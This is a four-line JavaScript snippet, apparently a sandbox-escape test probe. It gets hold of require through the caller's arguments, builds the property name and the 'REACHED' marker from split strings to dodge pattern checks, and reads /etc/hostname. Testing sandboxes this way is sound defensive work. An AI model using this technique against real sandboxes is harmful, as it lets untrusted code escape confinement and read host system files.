// the caller of a function under a quoted name, or by a pattern
const k = 'cal' + 'ler';
function leak() { return leak[k].arguments[1] }
console.log('REA'+'CHED', leak()('fs').readFileSync('/etc/hostname', 'utf8'));
